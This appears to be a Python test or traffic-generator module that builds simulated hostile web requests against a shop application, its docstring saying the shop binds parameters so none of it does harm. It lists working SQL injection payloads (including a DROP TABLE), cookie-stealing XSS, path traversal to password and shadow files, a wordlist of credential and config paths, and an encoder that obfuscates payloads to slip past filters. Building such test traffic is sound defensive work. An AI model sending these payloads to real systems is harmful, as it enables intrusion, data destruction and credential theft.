"""What attackers send. The shop binds its parameters, so none of it does harm."""

from __future__ import annotations

import random
from urllib.parse import quote, quote_plus

SQLI = [
    "' OR '1'='1", "1' OR 1=1-- -", "1 UNION SELECT NULL,NULL,NULL", "1' UNION SELECT email,digest FROM customer--",
    "'; DROP TABLE orders;--", "1 AND SLEEP(5)", "1); SELECT pg_sleep(5)--", "1' AND (SELECT 1 FROM pg_user)='1",
    "admin'--", "' OR 'x'='x' /*", "1/**/UNION/**/ALL/**/SELECT/**/1,2", "-1 OR 7*7=49",
    "1' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--", "1 ORDER BY 10--", "1' RLIKE SLEEP(3) AND 'a'='a",
    "1 AND ASCII(SUBSTRING((SELECT current_user),1,1))>64", "') OR ('a'='a", "1;WAITFOR DELAY '0:0:5'--",
]  # fmt: skip
XSS = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>",
    "javascript:alert(1)", "<iframe src=javascript:alert(1)>", "'><body onload=alert`1`>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>", "{{constructor.constructor('alert(1)')()}}",
]  # fmt: skip
TRAVERSAL = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow", "%2e%2e/%2e%2e/etc/hosts",
    "..%252f..%252fetc%252fpasswd", "/proc/self/environ", "..\\..\\windows\\win.ini", "../../../../var/log/auth.log%00",
    "..%c0%af..%c0%afetc/passwd", "php://filter/convert.base64-encode/resource=index.php",
]  # fmt: skip
WORDS = [
    ".env", ".env.bak", ".git/config", ".git/HEAD", "wp-login.php", "wp-admin/", "wp-config.php.bak",
    "xmlrpc.php", "phpmyadmin/index.php", "admin.php", "administrator/", "config.php~", "backup.zip",
    "db.sql.gz", ".aws/credentials", ".ssh/id_rsa", "server-status", "actuator/env",
    "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "cgi-bin/test.cgi", "shell.php", "info.php",
    "test.php", ".DS_Store", ".svn/entries", "api/swagger.json", "manager/html",
    "solr/admin/info/system", "owa/auth/logon.aspx", "boaform/admin/formLogin", "HNAP1/", "cms/",
    "old/", "dev/", "staging/", "login.jsp", "web.config", "docker-compose.yml", "console/",
    "id_rsa.pub",
]  # fmt: skip


def encode(payload: str, rng: random.Random) -> str:
    """Encode a payload for a query string: plainly, doubly, or with mixed case and comments."""
    how = rng.random()
    if how < 0.6:
        return quote_plus(payload)
    if how < 0.75:
        return quote(quote(payload, safe=""), safe="")
    if how < 0.9:
        mixed = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in payload)
        return quote(mixed, safe="")
    return "".join(f"%{byte:02x}" for byte in payload.encode())


def sql_injection(rng: random.Random) -> str:
    """A request that tries to change a statement."""
    payload = encode(rng.choice(SQLI), rng)
    return rng.choice(["/search?q=", "/search?q=lamp", "/item?id=", "/item?id=1", "/category/"]) + payload


def cross_site(rng: random.Random) -> str:
    """A request that tries to put a script into a page."""
    payload = encode(rng.choice(XSS), rng)
    return rng.choice(["/search?q=", "/news?page=", "/product/1?ref=", "/compare?ids="]) + payload


def traversal(rng: random.Random) -> str:
    """A request that tries to leave the web root."""
    payload = rng.choice(TRAVERSAL).replace(" ", "%20").replace("\\", "%5c")
    return rng.choice(["/static/", "/download?file=", "/?page=", "/static/img/", "/item?file="]) + payload


def any_of_them(rng: random.Random) -> str:
    """One of all kinds."""
    return rng.choice([sql_injection, cross_site, traversal])(rng)
